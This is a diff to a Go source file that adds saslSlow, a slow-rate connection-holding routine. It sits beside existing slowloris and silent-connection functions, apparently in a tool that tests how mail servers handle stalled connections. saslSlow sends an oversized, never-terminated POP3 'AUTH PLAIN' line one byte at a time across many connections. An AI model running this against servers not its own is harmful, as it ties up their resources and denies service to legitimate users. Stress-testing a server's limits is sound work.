@@ -146,6 +146,37 @@ func slowloris(t *target, n int, interval time.Duration, stop <-chan struct{}, h
 	return &wg
 }
 
+// saslSlow opens n connections that send "AUTH PLAIN " and 16 KiB of
+// base64 at once, then one more octet every interval, never a line end: a
+// SASL initial response (up to 32 KiB, RFC 5034 §4) the server must hold
+// while it arrives, unless its cap on such lines refuses it.
+func saslSlow(t *target, n int, interval time.Duration, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
+	head := append([]byte("AUTH PLAIN "), bytes.Repeat([]byte{'A'}, 16<<10)...)
+	var wg sync.WaitGroup
+	for i := 0; i < n; i++ {
+		c, err := t.dial(t.plain)
+		if err != nil {
+			h.fail(err)
+			opened.Done()
+			continue
+		}
+		wg.Add(1)
+		start := time.Now()
+		c.SetWriteDeadline(time.Now().Add(t.timeout))
+		c.Write(head)
+		opened.Done()
+		go func() {
+			defer wg.Done()
+			h.hold(c, start, stop, interval, func() error {
+				c.SetWriteDeadline(time.Now().Add(t.timeout))
+				_, err := c.Write([]byte{'A'})
+				return err
+			})
+		}()
+	}
+	return &wg
+}
+
 // silent opens n connections that never send anything.
 func silent(t *target, n int, stop <-chan struct{}, h *holdStats, opened *sync.WaitGroup) *sync.WaitGroup {
 	var wg sync.WaitGroup
